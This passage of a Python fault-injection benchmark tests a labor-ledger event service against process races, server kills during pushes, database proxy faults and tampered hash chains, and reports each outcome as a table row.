    outcomes = []
    for process in racers:
        out, _ = process.communicate(timeout=seconds + 120)
        found = json.loads(out.strip().splitlines()[-1])
        outcomes.append((found["acknowledged"], found["conflicts"]))
    acked = sum(a for a, _ in outcomes)
    conflicts = sum(c for _, c in outcomes)
    with httpx.Client(base_url=service.url, timeout=30) as http:
        version = http.get("/v1/streams/source:race").json()["version"]
    lost = acked - (version - 1)
    return f"{acked} appends acknowledged, {conflicts} × 409, {lost} lost updates"


def push_through_kills(
    service: Service, keys: Keys, db: BenchDatabase, lines: int, kills: int, workdir: Path
) -> str:
    bodies = workdir / "push.jsonl"
    bodies.write_text("".join(json.dumps(source_body(f"push-{n}")) + "\n" for n in range(lines)))
    env = {k: v for k, v in os.environ.items() if not k.startswith("LEDGER_")}
    env.update(LEDGER_URL=service.url, LEDGER_API_KEY=keys.writer)
    command = [LABOR_LEDGER, "push", str(bodies), "--batch", "50"]
    for _ in range(kills):
        phase = time.monotonic()
        pusher = subprocess.Popen(
            command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        deadline = time.monotonic() + 60
        while (
            log_counts(db.url, "push-").total() < lines // (kills + 1)
            and time.monotonic() < deadline
        ):
            time.sleep(0.05)
        print(f"      push: {time.monotonic() - phase:.1f} s to the kill", flush=True)
        service.kill()
        try:
            service.start()
        except RuntimeError as failed:  # seen once on a busy machine: try again, say so
            print(f"      push: the restart failed ({failed}); starting again", flush=True)
            time.sleep(2)
            service.start()
        print(f"      push: {time.monotonic() - phase:.1f} s to the restart", flush=True)
        pusher.wait(180)
        print(f"      push: {time.monotonic() - phase:.1f} s to the first push's end", flush=True)
    phase = time.monotonic()
    final = subprocess.run(command, env=env, capture_output=True, text=True)
    print(f"      push: {time.monotonic() - phase:.1f} s for the second push", flush=True)
    logged = log_counts(db.url, "push-")
    lost = sum(1 for n in range(lines) if not logged[f"push-{n}"])
    duplicated = sum(1 for count in logged.values() if count > 1)
    with db.engine.connect() as conn:
        count, top = conn.execute(text("SELECT count(*), max(position) FROM events")).one()
    check = {k: v for k, v in os.environ.items() if not k.startswith("LEDGER_")}
    check.update(LEDGER_DATABASE_URL=db.url, LEDGER_SECRET_KEY="bench-secret")
    verify = subprocess.run([LABOR_LEDGER, "verify"], env=check, capture_output=True)
    return (
        f"{lines} lines, server killed {kills}× during push, re-pushed (exit {final.returncode}): "
        f"{lost} lost, {duplicated} duplicated, "
        f"positions {'gapless' if count == top else 'GAPPED'}, "
        f"verify exit {verify.returncode}"
    )


# -- the run ----------------------------------------------------------------------------


def guarded(table: Table, scenario: str, backend: str, work: Callable[[], None]) -> None:
    started = time.monotonic()
    try:
        work()
    except Exception as error:  # one scenario's failure is a row, not the end
        traceback.print_exc()
        table.add(
            scenario, "", backend, f"the scenario failed: {type(error).__name__}: {error}", ""
        )
    print(f"    ({scenario}: {time.monotonic() - started:.0f} s)", flush=True)


def run_backend(backend: str, quick: bool, workdir: Path, table: Table, first: bool) -> None:
    print(f"== {backend}", flush=True)
    log = workdir / f"serve-{backend}.log"
    db = BenchDatabase.fresh(backend, "hostile_main", workdir)
    keys = make_keys(db)
    try:
        with serving(Service(db, log)) as service:
            guarded(table, "1", backend, lambda: auth_matrix(service, keys, table, backend))
            guarded(table, "7", backend, lambda: edge_cases(service, keys, table, backend))

            def held() -> None:
                table.add(
                    "9a. 16 threads, one Idempotency-Key",
                    "exactly one event",
                    backend,
                    one_key_sixteen_threads(service, keys, db.url),
                    "the first answer, replayed to the others",
                )
                table.add(
                    "9b. 4 processes racing expected_version",
                    "no lost update",
                    backend,
                    racing_processes(service, keys, 3 if quick else 20),
                    "409 to the losers, who re-read and retry",
                )
                table.add(
                    "9c. kill -9 during `labor-ledger push`, then push again",
                    "killed twice, 28,000 events: 0 lost, 0 duplicated, gapless, verify clean",
                    backend,
                    push_through_kills(
                        service, keys, db, 200 if quick else 10_000, 1 if quick else 2, workdir
                    ),
                    "push resumes; batches the ledger has are not appended twice",
                )

            guarded(table, "9", backend, held)
            guarded(
                table, "5-fill", backend, lambda: fill_log(service, keys, 2000 if quick else 17_000)
            )
            found: list[str] = []
            guarded(table, "8a", backend, lambda: found.extend(trust_in_the_api(service, keys, db)))
        with serving(Service(db, log, limits=True)) as limited:
            guarded(
                table,
                "5",
                backend,
                lambda: streams(limited, 40 if quick else 100, 6 if quick else 30, table, backend),
            )
            guarded(
                table,
                "6",
                backend,
                lambda: hostile_clients(
                    limited, 5 if quick else 20, 12 if quick else 60, table, backend
                ),
            )
        for tamper in ("rewrite", "cut"):
            guarded(
                table,
                "8b",
                backend,
                lambda t=tamper: found.append(tampered_chain(backend, t, workdir)),
            )
        if backend == "postgres":
            guarded(table, "8c", backend, lambda: found.append(service_role(db)))
        table.add(
            "8. Trust",
            "no anchor; superuser could disable the trigger; last admin revocable; expired key "
            "201; idempotency_key public; secrets in clear",
            backend,
            "; ".join(found),
            "see each item",
        )
    finally:
        for engine in _ENGINES.values():
            engine.dispose()
        _ENGINES.clear()
        db.drop()
    if first:
        guarded(table, "4", backend, lambda: webhooks(20 if quick else 60, workdir, table, "both"))
    if backend == "postgres":
        proxied_scenarios(quick, workdir, table)


def proxied_scenarios(quick: bool, workdir: Path, table: Table) -> None:
    db = BenchDatabase.fresh("postgres", "hostile_proxied", workdir)
    keys = make_keys(db)
    proxy = FaultyProxy(("127.0.0.1", 5432))
    through = make_url(db.url).set(port=proxy.port).render_as_string(False)
    try:
        service = Service(
            db,
            workdir / "serve-proxied.log",
            database_url=through,
            extra={"LEDGER_KEY_CACHE_SECONDS": "600"},
        )
        with serving(service):
            httpx.post(
                service.url + "/v1/events",
                json=source_body("warm"),
                headers=keys.bearer(keys.writer),
                timeout=30,
            )
            guarded(
                table,
                "2",
                "postgres",
                lambda: commit_cuts(service, proxy, keys, db.url, 8 if quick else 30, table),
            )
            guarded(
                table,
                "3",
                "postgres",
                lambda: stalled_database(service, proxy, 10 if quick else 30, table),
            )
    finally:
        proxy.close()
        for engine in _ENGINES.values():
            engine.dispose()
        _ENGINES.clear()
        db.drop()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--backends", default="sqlite,postgres")
    parser.add_argument("--quick", action="store_true")
    parser.add_argument(
        "--database-faults-only",
        action="store_true",
        help="Only the scenarios with a proxy before PostgreSQL (cut COMMITs, a stall).",
    )
    args = parser.parse_args()
    table = Table()
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        if args.database_faults_only:
            proxied_scenarios(args.quick, Path(tmp), table)
        for n, backend in enumerate(
            args.backends.split(",") if not args.database_faults_only else []
        ):
            run_backend(backend.strip(), args.quick, Path(tmp), table, first=n == 0)
    print(f"\n(run took {time.monotonic() - started:.0f} s)\n")
    print(table.markdown())


if __name__ == "__main__":
    main()
